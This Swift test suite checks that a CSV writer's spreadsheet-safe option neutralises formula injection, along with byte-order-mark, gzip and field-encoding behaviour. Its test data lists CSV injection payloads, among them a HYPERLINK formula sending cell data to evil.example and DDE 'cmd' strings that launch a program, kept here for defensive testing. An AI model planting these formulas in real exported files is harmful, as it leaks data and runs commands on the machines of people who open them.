import CSVStream
import NumericCore
import Testing

/// What an in-memory writer with `options` produces for `rows`.
private func written(_ rows: [[String]], options: CSVWriter.Options) throws -> [UInt8] {
    let writer = try CSVWriter.inMemory(options: options)
    for row in rows { try writer.write(row: row) }
    try writer.finish()
    return writer.contents
}

@Suite("CSVWriter: outputs safe to open")
struct CSVWriterSafetyTests {
    /// Formula injections (OWASP "CSV Injection") and their neutralised forms.
    static let injections: [(String, String)] = [
        ("=1+2", "'=1+2"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-", "'-"),
        ("+", "'+"),
        ("--1", "'--1"),
        ("-1.5x", "'-1.5x"),
        // Plain numbers and ordinary text are left alone.
        ("-1.5", "-1.5"), ("-3", "-3"), ("+2", "+2"), ("-1e-07", "-1e-07"), ("1.5e+20", "1.5e+20"),
        ("E06000049", "E06000049"), ("a=b", "a=b"), ("", ""), (" =1", " =1"),
    ]

    @Test func neutralise() {
        for (text, safe) in Self.injections {
            #expect(CSVWriter.neutralise(text) == safe, "\(text.debugDescription)")
        }
    }

    @Test func injectionsRoundTripNeutralised() throws {
        let texts = Self.injections.map(\.0)
        let bytes = try written([["value", "note"]] + texts.map { [$0, "x"] }, options: .spreadsheetSafe)
        let read = try parse(bytes: bytes)
        #expect(read.rows.map(\.[0]) == Self.injections.map(\.1))
        #expect(read.rows.allSatisfy { $0[1] == "x" }, "commas and quotes inside stay inside the field")
        // Without the option, the text comes back exactly.
        #expect(try parse(bytes: written([["value"]] + texts.map { [$0] }, options: [])).rows.map(\.[0]) == texts)
    }

    @Test func numbersAreNeverTouched() throws {
        let writer = try CSVWriter.inMemory(options: .spreadsheetSafe)
        try writer.write(field: "-1.5")
        try writer.write(field: -1.5)
        try writer.write(field: -3)
        try writer.write(field: -1e-7)
        try writer.write(field: "=-1")
        try writer.endRow()
        try writer.finish()
        #expect(String(decoding: writer.contents, as: UTF8.self) == "-1.5,-1.5,-3,-1e-07,'=-1\n")
    }

    @Test func byteOrderMark() throws {
        let plain = try written([["área", "n"], ["1", "2"]], options: [])
        #expect(plain.prefix(3) != [0xEF, 0xBB, 0xBF], "no byte-order mark by default")
        let marked = try written([["área", "n"], ["1", "2"]], options: .byteOrderMark)
        #expect(marked == [0xEF, 0xBB, 0xBF] + plain)
        #expect(try parse(bytes: marked) == parse(bytes: plain))

        let gzip = try CSVWriter.inMemory(gzip: true, options: [.byteOrderMark, .spreadsheetSafe])
        try gzip.write(row: ["a"])
        try gzip.write(row: ["=1"])
        try gzip.finish()
        #expect(try parse(bytes: gzip.contents).rows == [["'=1"]])
    }

    @Test func aLeadingByteOrderMarkInTheFirstFieldSurvives() throws {
        let rows = [["\u{FEFF}a", "b"], ["\u{FEFF}", "\u{FEFF}x"]]
        for options: CSVWriter.Options in [[], .byteOrderMark] {
            let read = try parse(bytes: written(rows, options: options))
            #expect(read.header == rows[0])
            #expect(read.rows == [rows[1]])
        }
    }

    @Test func encodeFieldAndEncodeRowMatchTheWriter() throws {
        var rng = SplitMix64(state: 2_026)
        let pieces = ["a", ",", "\"", "\n", "\r", " ", "\t", "=", "-", "+", "@", "1", "é", "\u{FEFF}", ""]
        for trial in 0..<500 {
            let options: CSVWriter.Options = trial % 2 == 0 ? [] : .spreadsheetSafe
            let row = (0..<Int(rng.next() % 4) + 1).map { _ in
                (0..<Int(rng.next() % 4)).map { _ in pieces[Int(rng.next() % UInt64(pieces.count))] }.joined()
            }
            let bytes = try written([row], options: options)
            #expect(CSVWriter.encodeRow(row, options: options) == bytes, "\(row)")
            #expect(CSVWriter.joinRow(row, options: options) == String(decoding: bytes, as: UTF8.self))
            let fields = row.map { CSVWriter.encodeField($0, options: options) }
            if row != [""] {
                #expect(Array(fields.joined(separator: [0x2C])) + [0x0A] == bytes, "\(row)")
            }
            #expect(CSVWriter.quoteField(row[0], options: options) == String(decoding: fields[0], as: UTF8.self))
        }
        #expect(CSVWriter.encodeRow([""]) == Array("\"\"\n".utf8))
        #expect(CSVWriter.quoteField("say \"hi\"") == "\"say \"\"hi\"\"\"")
    }
}
